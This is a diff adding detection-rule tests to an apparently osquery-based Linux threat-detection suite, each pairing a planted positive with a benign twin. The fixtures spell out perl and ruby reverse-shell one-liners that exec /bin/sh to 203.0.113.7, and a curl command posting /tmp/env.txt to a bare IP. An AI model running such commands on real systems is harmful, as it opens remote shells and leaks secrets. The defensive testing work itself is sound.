@@ -4,7 +4,7 @@ import type { Detection, DetectionHit, HostData, QueryEntities, Row } from "../.
 import { FIXTURES, type DetectionFixture } from "./detection-fixtures.js";
 import { FIXTURES_A } from "./fixtures/new-a.js";
 import { FIXTURES_B } from "./fixtures/new-b.js";
-import { host, proc, readRepoFile } from "./helpers.js";
+import { host, proc, readRepoFile, sock } from "./helpers.js";
 
 const ALL_FIXTURES: Record<string, DetectionFixture> = { ...FIXTURES, ...FIXTURES_A, ...FIXTURES_B };
 const SCHEMA = JSON.parse(readRepoFile("reference/osquery-linux-schema.json")) as { tables: Record<string, { columns: string[] }> };
@@ -125,4 +125,64 @@ test("vulnerable-package narrows to the advisories named in the question", async
   const only = d?.evaluate(h, { entities: entities({ advisories: ["CVE-2024-6387"] }) });
   t.equal(only?.length, 1);
   t.match(only?.[0]?.summary, /CVE-2024-6387/);
+});
+
+test("behaviours added from corpus misses: planted positive and benign twin", async (t) => {
+  // reverse-shell: interpreter one-liners (PayloadsAllTheThings reverse shell cheatsheet).
+  const perl = 'perl -e use Socket;$i="203.0.113.7";$p=8080;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};';
+  t.equal(findings(run("reverse-shell", host({ processes: [proc(7, "perl", "/usr/bin/perl", perl)], process_open_sockets: [sock(7, "203.0.113.7", 8080)] }))).length, 1, "perl Socket one-liner");
+  const ruby = `ruby -rsocket -e f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`;
+  t.equal(findings(run("reverse-shell", host({ processes: [proc(8, "ruby", "/usr/bin/ruby", ruby)], process_open_sockets: [sock(8, "203.0.113.7", 4444)] }))).length, 1, "ruby TCPSocket one-liner");
+  // Benign twin: munin-node (perl) and a gunicorn app (python) holding ordinary connections.
+  t.same(findings(run("reverse-shell", host({ processes: [proc(9, "perl", "/usr/bin/perl", "/usr/bin/perl -wT /usr/sbin/munin-node"), proc(10, "python3", "/usr/bin/python3", "/srv/app/venv/bin/python3 -m gunicorn app:app")], process_open_sockets: [sock(9, "10.0.0.5", 4949), sock(10, "198.51.100.20", 443)] }))), [], "perl and python daemons");
+
+  // suspicious-systemd-unit: a dropped binary directly in /var/lib, running and connected out.
+  const unit = "/etc/systemd/system/node-agent.service";
+  const dropped = run("suspicious-systemd-unit", host({
+    systemd_units: [{ id: "node-agent.service", fragment_path: unit }],
+    augeas: [{ node: `/files${unit}/Service/ExecStart/command`, value: "/var/lib/node-agentd", label: "command", path: unit }],
+    processes: [proc(7, "node-agentd", "/var/lib/node-agentd")],
+    process_open_sockets: [sock(7, "203.0.113.9", 8443)],
+  }));
+  t.equal(findings(dropped)[0]?.severity, "high", "a /var/lib binary run by a unit and connected out");
+  // Benign twin: k3s and rke2 run their binaries from their own subdirectories of /var/lib; rc-local runs /etc/rc.local.
+  const vendor = run("suspicious-systemd-unit", host({
+    systemd_units: [{ id: "rke2-server.service", fragment_path: "/usr/local/lib/systemd/system/rke2-server.service" }, { id: "rc-local.service", fragment_path: "/etc/systemd/system/rc-local.service" }],
+    augeas: [
+      { node: "/files/usr/local/lib/systemd/system/rke2-server.service/Service/ExecStart/command", value: "/var/lib/rancher/rke2/bin/rke2", label: "command", path: "/usr/local/lib/systemd/system/rke2-server.service" },
+      { node: "/files/etc/systemd/system/rc-local.service/Service/ExecStart/command", value: "/etc/rc.local", label: "command", path: "/etc/systemd/system/rc-local.service" },
+    ],
+    processes: [proc(8, "rke2", "/var/lib/rancher/rke2/bin/rke2")],
+    process_open_sockets: [sock(8, "198.51.100.3", 443)],
+  }));
+  t.same(findings(vendor), [], "rke2 from its own /var/lib subdirectory, rc.local");
+
+  // history-tampering: the state left behind (Atomic T1070.003).
+  const wiped = run("history-tampering", host({ file: [{ path: "/root/.bash_history", type: "symlink", symlink: "1", symlink_target_path: "/dev/null", size: "9" }], process_envs: [{ pid: "7", key: "HISTFILE", value: "/dev/null" }] }));
+  t.equal(findings(wiped).length, 2, "history linked to /dev/null and HISTFILE=/dev/null");
+  t.equal(wiped[0]?.severity, "high", "root's history is high");
+  // Benign twin: ~/.mysql_history linked to /dev/null (MySQL's own advice), a normal HISTFILE and HISTSIZE.
+  t.same(findings(run("history-tampering", host({ file: [{ path: "/home/dba/.mysql_history", type: "symlink", symlink: "1", symlink_target_path: "/dev/null", size: "9" }, { path: "/home/dba/.bash_history", type: "regular", symlink: "0", symlink_target_path: "", size: "5120" }], process_envs: [{ pid: "8", key: "HISTFILE", value: "/home/dba/.bash_history" }, { pid: "8", key: "HISTSIZE", value: "1000" }] }))), [], "mysql history hardening");
+
+  // ci-runner-egress: a job posting data to a bare public IP (Codecov uploader compromise, 2021).
+  const ci = { role: "ci-runner" };
+  const leak = run("ci-runner-egress", host({ processes: [proc(7, "curl", "/usr/bin/curl", "curl -sm 0.5 -d @/tmp/env.txt http://203.0.113.50/upload/v2")], process_open_sockets: [sock(7, "203.0.113.50", 80)] }, ci));
+  t.equal(findings(leak).length, 1, "one finding for the upload, not a second for its socket");
+  t.equal(leak[0]?.severity, "high");
+  // Benign twin: coverage upload to codecov.io by name, an artifact PUT to an internal address, a download from a raw IP.
+  t.same(findings(run("ci-runner-egress", host({ processes: [proc(8, "curl", "/usr/bin/curl", "curl -sf -F file=@coverage.xml https://codecov.io/upload/v4"), proc(9, "curl", "/usr/bin/curl", "curl -T dist.tgz http://10.20.0.8:8081/artifactory/x/"), proc(10, "curl", "/usr/bin/curl", "curl -fsSLo tool.tgz http://198.51.100.4/tool.tgz")] }, ci))), [], "named, internal and download-only traffic");
+
+  // unexpected-suid: a SUID shell copy where suid_bin does not look (/dev/shm), seen in the file table.
+  const shm = run("unexpected-suid", host({ file: [{ path: "/dev/shm/...", mode: "4755", type: "regular", uid: "0", gid: "0" }], processes: [proc(7, "...", "/dev/shm/...", "/dev/shm/... -p", { uid: "1001", euid: "0" })] }));
+  t.equal(findings(shm)[0]?.severity, "high", "SUID file in /dev/shm run with euid 0");
+  t.ok(shm[0]?.evidence.some((e) => e.table === "processes"), "the running process is evidence");
+  // Benign twin: sudo (packaged SUID) in the file table, a setgid shared directory, a plain executable.
+  t.same(findings(run("unexpected-suid", host({ file: [{ path: "/usr/bin/sudo", mode: "4111", type: "regular", uid: "0", gid: "0" }, { path: "/srv/shared", mode: "2775", type: "directory", uid: "0", gid: "100" }, { path: "/usr/local/bin/app", mode: "0755", type: "regular", uid: "0", gid: "0" }], processes: [proc(8, "sudo", "/usr/bin/sudo", "sudo -i", { uid: "1000", euid: "0" })] }))), [], "packaged SUID, setgid directory, plain binary");
+
+  // ssh-authorized-key: a key made on an unnamed cloud instance by another user, in a person's account.
+  const users = [{ uid: "1002", username: "fmoreau", shell: "/bin/bash", directory: "/home/fmoreau" }, { uid: "1000", username: "ubuntu", shell: "/bin/bash", directory: "/home/ubuntu" }];
+  const k = (uid: string, comment: string, file: string) => ({ uid, key: `AAAAC3NzaC1lZDI1NTE5${comment.length}`, comment, options: "", key_file: file });
+  t.equal(findings(run("ssh-authorized-key", host({ authorized_keys: [k("1002", "fmoreau@laptop", "/home/fmoreau/.ssh/authorized_keys"), k("1002", "ubuntu@ip-172-31-52-11", "/home/fmoreau/.ssh/authorized_keys")], users }))).length, 1, "ubuntu@ip-172-31-x on fmoreau");
+  // Benign twin: the ubuntu account's own key generated on its instance, and a person's laptop key.
+  t.same(findings(run("ssh-authorized-key", host({ authorized_keys: [k("1000", "ubuntu@ip-10-0-3-7", "/home/ubuntu/.ssh/authorized_keys"), k("1002", "fmoreau@laptop", "/home/fmoreau/.ssh/authorized_keys")], users }))), [], "own keys");
 });
